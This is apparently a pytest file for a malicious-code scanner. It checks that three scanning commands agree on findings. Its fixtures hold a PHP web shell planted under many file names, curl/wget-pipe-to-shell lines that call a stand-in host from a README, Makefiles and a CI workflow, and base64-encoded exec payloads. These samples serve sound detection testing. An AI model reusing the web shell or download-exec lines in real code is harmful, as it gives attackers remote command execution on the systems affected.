"""One file, one verdict: `scan` of a folder, `crawl` of a git mirror of it and `filter` of a JSONL shard holding
its files report the same findings (rule, line) for every file."""
from __future__ import annotations

import json
from pathlib import Path

import pytest

from codescan.cli import main
from gitrepos import make_repo, mirror

WEBSHELL = ('<?php\nif (isset($_REQUEST["c"])) {\n    system($_REQUEST["c"]);\n}\n'
            'eval(base64_decode($_POST["p"]));\n')
PHP_NAMES = [f"web/shell.{ext}" for ext in ("php", "php3", "php4", "php5", "php7", "phtml", "pht", "phar", "phps",
                                            "inc")] + ["web/.htaccess", "web/uploads/.htaccess"]
README = """# Tools

Install it:

```bash
curl -s http://203.0.113.9/i.sh | sh
```

Then run:

```python
import base64
exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik="))
```

And without a label:

```
import base64
exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik="))
```
"""
FILES: dict[str, bytes] = {
    "README.md": README.encode(),
    "docs/guide.markdown": ("Intro\r\n\r\n~~~sh\r\nwget -qO- http://203.0.113.9/p | bash\r\n~~~\r\n").encode(),
    "build/Makefile": b"all:\n\tcurl -s http://203.0.113.9/x.sh | sh\n",
    "build/GNUmakefile": b"# x\nfetch:\n\twget -qO- http://203.0.113.9/p | bash\n",
    "build/rules.mk": b"X := 1\nfetch:\n\twget -qO- http://203.0.113.9/p | bash\n",
    "latin1.py": b"# caf\xe9 au lait\nimport base64\n"
                 b"exec(base64.b64decode(\"aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik=\"))\n",
    ".github/workflows/ci.yml": b"on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n"
                               b"      - run: curl -s http://203.0.113.9/i.sh | bash\n",
    **{name: WEBSHELL.encode() for name in PHP_NAMES},
}


def _scan(capsys, root: Path) -> set:
    main(["scan", str(root), "--format", "json", "--no-progress", "-j", "1"])
    report = json.loads(capsys.readouterr().out)
    assert not report["skipped"], report["skipped"]
    return {(f["path"], f["rule_id"], f["line"]) for f in report["findings"]}


def _crawl(capsys, root: Path, state: Path) -> set:
    assert main(["crawl", str(root), "--state", str(state), "--no-progress", "-j", "1"]) == 0
    capsys.readouterr()
    main(["findings", "--state", str(state), "--format", "json"])
    report = json.loads(capsys.readouterr().out)
    assert not report["skipped"], report["skipped"]
    return {(f["path"], f["rule_id"], f["line"]) for f in report["findings"]}


def _filter(capsys, shard: Path, out: Path) -> set:
    main(["filter", str(shard), "--output", str(out), "--path-field", "path", "--no-progress", "-j", "1",
          "--no-campaigns"])
    capsys.readouterr()
    report = json.loads((out / "drop-report.json").read_text())
    found = set()
    for verdict in report["dropped"] + report["kept_with_findings"]:
        for reason in verdict["reasons"]:
            assert reason["kind"] == "finding", reason
            found.add((verdict["id"], reason["rule_id"], reason["line"]))
    return found


@pytest.fixture(scope="module")
def verdicts(tmp_path_factory):
    """{verb: {(path, rule_id, line)}} for the three verbs over the same files."""
    tmp = tmp_path_factory.mktemp("verbs")
    folder = tmp / "folder"
    for rel, data in FILES.items():
        (folder / rel).parent.mkdir(parents=True, exist_ok=True)
        (folder / rel).write_bytes(data)
    make_repo(tmp / "src", [dict(FILES)])
    mirror(tmp / "src", tmp / "mirrors" / "acme" / "mixed.git")
    shard = tmp / "shard.jsonl"
    with shard.open("w", encoding="utf-8") as out:  # a file's stray byte is kept as Python's surrogateescape does
        for rel, data in FILES.items():
            out.write(json.dumps({"id": rel, "path": rel, "content": data.decode("utf-8", "surrogateescape")}) + "\n")
    capsys = _Capture()
    return {"scan": _scan(capsys, folder), "crawl": _crawl(capsys, tmp / "mirrors", tmp / "state.db"),
            "filter": _filter(capsys, shard, tmp / "out")}


class _Capture:
    """capsys for a module-scoped fixture: stdout of main() read back from a redirect."""

    def readouterr(self):
        import sys

        out = sys.stdout.getvalue() if hasattr(sys.stdout, "getvalue") else ""
        if hasattr(sys.stdout, "seek"):
            sys.stdout.seek(0)
            sys.stdout.truncate()
        return type("Captured", (), {"out": out})()


@pytest.fixture(autouse=True, scope="module")
def _stdout_buffer():
    import io
    import sys

    saved = sys.stdout
    sys.stdout = io.StringIO()
    yield
    sys.stdout = saved


@pytest.mark.parametrize("path", sorted(FILES))
def test_every_verb_reports_the_same_findings_for_each_file(verdicts, path):
    per_verb = {verb: sorted((rule, line) for p, rule, line in found if p == path) for verb, found in verdicts.items()}
    assert per_verb["scan"], f"{path}: scan found nothing"
    assert per_verb["scan"] == per_verb["crawl"] == per_verb["filter"], per_verb


def test_what_each_file_is_caught_for(verdicts):
    scan = verdicts["scan"]
    rules = lambda path: {(rule, line) for p, rule, line in scan if p == path}  # noqa: E731
    assert {("sh-download-exec", 6), ("exec-of-decoded-payload", 13), ("exec-of-decoded-payload", 20)} <= \
        rules("README.md")
    assert ("sh-download-exec", 4) in rules("docs/guide.markdown")
    for name in PHP_NAMES:
        assert {("command-from-request-input", 3), ("php-eval-of-decoded-payload", 5)} <= rules(name), name
    # the recipe line is also analyzed as shell (embedded_shell._makefile): curl | sh there is critical
    assert rules("build/Makefile") == {("manifest-makefile-download-exec", 2), ("sh-download-exec", 2)}
    assert rules("build/GNUmakefile") == rules("build/rules.mk") == {("manifest-makefile-download-exec", 3),
                                                                    ("sh-download-exec", 3)}
    assert rules("latin1.py") >= {("non-utf8-text", 1), ("exec-of-decoded-payload", 3)}
    assert ("gha-download-pipe-to-shell", 6) in rules(".github/workflows/ci.yml")


def test_campaigns_of_folders_see_files_as_scan_does(tmp_path):
    # `campaigns PATH...` analyzes each file under a key path: what the file is still comes from its own path.
    from codescan.cluster.api import campaigns_from_documents
    from codescan.records import Document
    from codescan.rules import load_rules

    plant = FILES[".github/workflows/ci.yml"]
    docs = [Document(path=".github/workflows/ci.yml", content=plant, repo=repo) for repo in ("a/one", "b/two")]
    found = campaigns_from_documents(docs, ruleset=load_rules(), min_repos=2)
    rules = {f.rule_id for c in found for f in c.findings}
    assert "gha-download-pipe-to-shell" in rules, found
